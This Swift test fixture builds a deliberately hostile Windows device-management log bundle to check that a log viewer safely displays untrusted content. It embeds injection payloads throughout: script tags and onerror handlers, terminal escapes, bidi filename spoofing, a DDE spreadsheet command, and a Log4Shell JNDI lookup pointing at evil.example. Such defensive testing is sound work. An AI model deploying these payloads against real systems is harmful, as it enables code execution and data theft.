// A bundle that tries to take over whatever shows it: in names of files, of the device, of users and servers, in messages
// that are cited and in errors that nothing explains. `window.hacked` is what the browser tests look for.

import CulpritModel

extension FixtureBundles {
    /// Markup, script, terminal escapes, bidirectional overrides, formulas, Markdown, and a word without end.
    private static let attack =
        "</pre></script><script>window.hacked=1</script><img src=x onerror=\"window.hacked=2\">'\"&amp;<!-- "
        + "\u{1B}[2J\u{1B}]0;title\u{7}\u{9B}31m \u{202E}gnp.exe\u{2066} ]]> `` ``` **b** [x](javascript:window.hacked=3) "
        + "| =HYPERLINK(\"http://evil.example/\") @someone #1 ${jndi:ldap://evil.example} "

    private static let longWord = String(repeating: "x", count: 3000)

    /// Enrolment fails for want of a licence, in a log that attacks.
    static func hostile() -> FixtureBundle {
        let device = FixtureDevice(
            name: "<img src=x onerror=window.hacked=4>", deviceID: "a1b2c3d4-0000-4000-8000-000000000679",
            captured: captured(9))
        let events = EventLogWriter.file(events: [
            device.mdmEvent(
                76, level: 2, minutesAgo: 90,
                [message(0x8018_0018), EventLogWriter.Item("Detail", .text(attack))]),
            device.mdmEvent(71, level: 2, minutesAgo: 80, [EventLogWriter.Item("=1+1", .text("=1+1" + attack))]),
            device.mdmEvent(9999, level: 2, minutesAgo: 70, [EventLogWriter.Item(attack, .text(attack + longWord))]),
        ])
        let lines: [(minutesAgo: Int, text: String, type: Int)] = [
            (240, "=cmd|' /C calc'!A0 " + attack, 3), (239, "+1 " + longWord, 3), (238, "-2 " + attack, 2),
            (237, "@SUM(1) " + attack, 3),
            (
                236,
                "Failed to enroll with RegisterDeviceWithManagementUsingAADDeviceCredentials with error code 0x80180018. "
                    + attack, 3
            ),
            (235, "# heading\n- list\n> quote\n```\n" + attack, 3),
        ]
        let members: [(path: String, bytes: [UInt8])] = [
            ("dsregcmd.txt", device.dsregcmd(diagnostics: [("Server Message", attack)])),
            ("Microsoft-Windows-DeviceManagement-Enterprise-Diagnostics-Provider%4Admin.evtx", events),
            ("CCM/Logs/CoManagementHandler.log", device.log("CoManagementHandler", lines)),
            ("=1+1 <img src=x onerror=window.hacked=5>\u{202E}gol.log", device.log("=1+1<b>", lines)),
            ("damaged <script>window.hacked=6</script>.log", Array("<![LOG[torn ".utf8) + Array(attack.utf8)),
        ]
        return FixtureBundle(
            name: "hostile", files: [("hostile.zip", ZIPWriter(members.map { .init($0.path, $0.bytes) }).written())])
    }
}
